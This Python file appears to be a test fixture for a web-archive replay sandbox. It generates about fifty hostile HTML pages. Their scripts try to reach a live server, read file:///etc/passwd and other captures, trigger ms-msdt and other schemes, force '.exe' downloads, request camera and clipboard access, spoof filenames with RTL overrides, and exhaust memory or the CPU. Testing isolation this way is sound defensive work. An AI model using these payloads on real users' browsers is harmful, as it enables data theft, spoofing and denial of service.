"""Fifty pages that would harm whoever replays them, each in a way of its own.

`LIVE` stands for a server that lives and listens while they are replayed, `ELSE` for a page of
another capture. What a page gets that it must not have, it says by `harm()`. `QUIET` are those
that can stand side by side in frames of one page; `ALONE` take the whole page or its engine.
"""

from __future__ import annotations

from collections.abc import Iterator

_LATER = "setTimeout(()=>%s, 50)"
QUIET = {
    "fetch": "fetch('LIVE/a').then(a=>a.ok&&harm())",
    "fetch-opaque": "fetch('LIVE/b',{mode:'no-cors',credentials:'include'}).catch(()=>0)",
    "xhr": "const x=new XMLHttpRequest;x.onload=()=>x.status==200&&harm();x.open('GET','LIVE/c');"
    "x.send()",
    "beacon": "navigator.sendBeacon('LIVE/d','x')",
    "websocket": "new WebSocket('LIVE/e'.replace('http','ws')).onopen=harm",
    "event-source": "new EventSource('LIVE/f').onmessage=harm",
    "web-transport": "new WebTransport('LIVE/g'.replace('http:','https:')).ready.then(harm)",
    "webrtc": "const p=new RTCPeerConnection({iceServers:[{urls:'stun:'+'LIVE'.slice(7)}]});"
    "p.createDataChannel('x');p.onicecandidate=e=>e.candidate&&e.candidate.candidate&&harm();"
    "p.createOffer().then(o=>p.setLocalDescription(o))",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('LIVE/h').then(a=>a.ok&&"
    'postMessage(1))"]))).onmessage=harm',
    "shared-worker": "new SharedWorker('data:text/javascript,fetch(\"LIVE/i\")')",
    "service-worker": "navigator.serviceWorker.register('LIVE/sw.js').then(harm)",
    "worklet": "CSS.paintWorklet&&CSS.paintWorklet.addModule('LIVE/j.js').then(harm)",
    "import": "import('LIVE/k.js').then(harm)",
    "script": "tag('script',{src:'LIVE/l.js',onload:harm})",
    "image": "tag('img',{src:'LIVE/m.png',onload:harm})",
    "video": "tag('video',{src:'LIVE/n.mp4',autoplay:true,onloadeddata:harm})",
    "prefetch": "tag('link',{rel:'prefetch',href:'LIVE/o'})",
    "preconnect": "tag('link',{rel:'preconnect',href:'LIVE/'})",
    "dns-prefetch": "tag('link',{rel:'dns-prefetch',href:'LIVE/'})",
    "prerender": "tag('script',{type:'speculationrules',textContent:"
    "JSON.stringify({prerender:[{source:'list',urls:['LIVE/p']}]})})",
    "css-import": "tag('style',{textContent:'@import \"LIVE/q.css\"'})",
    "font": "new FontFace('x','url(LIVE/r.woff2)').load().then(harm)",
    "form": "const f=tag('form',{method:'post',action:'LIVE/s',target:'kept'});"
    "tag('iframe',{name:'kept'});f.submit()",
    "srcdoc": "tag('iframe',{srcdoc:'<img src=LIVE/t><script>fetch(\"LIVE/u\")</scr'+'ipt>'})",
    "object": "tag('object',{data:'LIVE/v'});tag('embed',{src:'LIVE/w'})",
    "ping": "tag('a',{href:'#x',ping:'LIVE/x'}).click()",
    "report": "tag('meta',{httpEquiv:'Content-Security-Policy',"
    "content:\"img-src 'none';report-uri LIVE/y\"});tag('img',{src:'/z'})",
    "other-capture": "fetch('ELSE').then(a=>a.ok&&harm())",
    "other-frame": "tag('iframe',{src:'ELSE',onload(){try{this.contentDocument.body.textContent"
    ".includes('secret')&&harm()}catch{}}})",
    "post-message": "addEventListener('message',e=>e.data=='secret'&&harm());"
    "parent.postMessage('give','*');top.postMessage('give','*')",
    "file": "tag('iframe',{src:'file:///etc/passwd',onload(){try{this.contentDocument.body."
    "textContent.includes('root:')&&harm()}catch{}}});fetch('file:///etc/passwd').then(harm)",
    "inner-pages": "for(const u of ['chrome://gpu','view-source:LIVE','qrc:///'])"
    "fetch(u).then(harm).catch(()=>0)",
    "download": "tag('a',{href:'data:application/octet-stream,harm',download:'harm.bin'}).click()",
    "download-blob": "tag('a',{href:URL.createObjectURL(new Blob(['harm'])),download:'h.exe'})"
    ".click()",
    "popup": "const w=open('LIVE/popup');w&&w.document&&harm()",
    "scheme": "for(const s of ['mailto:a@b.c','tel:1','ms-msdt:x','ssh://x','steam://run/1'])"
    "tag('iframe',{src:s})",
    "protocol-handler": "navigator.registerProtocolHandler('web+harm','LIVE/%s')",
    "notification": "Notification.requestPermission().then(a=>a=='granted'&&harm())",
    "clipboard": "navigator.clipboard.readText().then(harm)",
    "geolocation": "navigator.geolocation.getCurrentPosition(harm)",
    "camera": "navigator.mediaDevices.getUserMedia({video:true,audio:true}).then(harm)",
    "screen": "navigator.mediaDevices.getDisplayMedia().then(harm)",
    "fullscreen": "document.documentElement.requestFullscreen().then(harm)",
    "pointer-lock": "document.body.requestPointerLock();"
    "document.addEventListener('pointerlockchange',()=>document.pointerLockElement&&harm())",
    "devices": "for(const d of ['usb','hid','serial','bluetooth'])"
    "navigator[d]&&navigator[d].requestDevice&&navigator[d].requestDevice({filters:[]}).then(harm)",
    "file-system": "self.showSaveFilePicker&&showSaveFilePicker().then(harm)",
    "timing": "self.crossOriginIsolated&&harm();try{new SharedArrayBuffer(8)&&"
    "self.crossOriginIsolated&&harm()}catch{}",
    "storage": "localStorage.kept&&harm();localStorage.kept=1;window.name&&harm();window.name='x';"
    "document.cookie.includes('kept')&&harm();document.cookie='kept=1;max-age=999999'",
    "databases": "const r=indexedDB.open('kept',1);r.onsuccess=()=>0;caches.open('kept').then("
    "c=>c.keys().then(k=>k.length&&harm()).then(()=>c.put('/kept',new Response('x'))))",
}
ALONE = {
    "loop": _LATER % "{for(;;);}",
    "alerts": "for(let i=0;i<200;i++){alert(i);confirm(i);prompt(i)}",
    "print": "print();onbeforeunload=()=>'stay'",
    "history": "for(let i=0;i<5000;i++)try{history.pushState(i,'','#'+i)}catch{break}",
    "spoofed": "document.title='file:///etc\\u202Egpj.exe';history.pushState(0,'','/bank\\u202E')",
    "refresh": "tag('meta',{httpEquiv:'refresh',content:'0;url=LIVE/refresh'})",
    "frame-bust": _LATER % "{top.location='LIVE/bust'}",
    "bomb": "for(let i=0;i<40;i++)tag('div',{innerHTML:'<b>'.repeat(4000)});"
    'tag(\'img\',{src:\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="99999" '
    'height="99999"/>\'})',
    "memory": "const a=[];try{for(;;)a.push(new Uint8Array(1<<28).fill(1))}catch{}",
}
assert len(QUIET) + len(ALONE) >= 50

_PAGE = """<!doctype html><meta charset=utf-8><title>%(name)s</title><body><p>Ruling %(name)s</p>
<script>
const harm = () => { document.body.append(" har" + "m:%(name)s ") };
const tag = (kind, told) => { const made = Object.assign(document.createElement(kind), told);
  document.body.append(made); return made };
addEventListener("unhandledrejection", (event) => event.preventDefault());
try { %(act)s } catch {}
</script>"""
# Says what its frames say, again and again; it is captured, too, and can read them.
_ALL = """<!doctype html><meta charset=utf-8><title>all</title>
<style>iframe { width: 60px; height: 20px; border: 0 }</style><body>
%s<p id=told>trying</p><script>
const frames_ = [...document.querySelectorAll("iframe")];
setInterval(() => {
  const said = frames_.map((one) => { try { return one.contentDocument.body.textContent }
    catch { return "" } });
  const harmed = said.flatMap((one) => one.match(/harm:\\S+/g) || []);
  const read = said.filter((one) => one.includes("Ruling")).length;
  const now = "read:" + read + " " + (harmed.join(" ") || "harmless");
  if (told.textContent !== now) told.textContent = now;
}, 200);
</script>"""


def pages(live: str, other: str) -> Iterator[tuple[str, bytes]]:
    """Each page's path below its origin, and its bytes; the first shows all quiet ones."""
    frames = "".join(f'<iframe src="/{name}" allow="*"></iframe>\n' for name in QUIET)
    yield "/", (_ALL % frames).encode()
    for name, act in (QUIET | ALONE).items():
        told = act.replace("LIVE", live).replace("ELSE", other)
        yield f"/{name}", (_PAGE % {"name": name, "act": told}).encode()
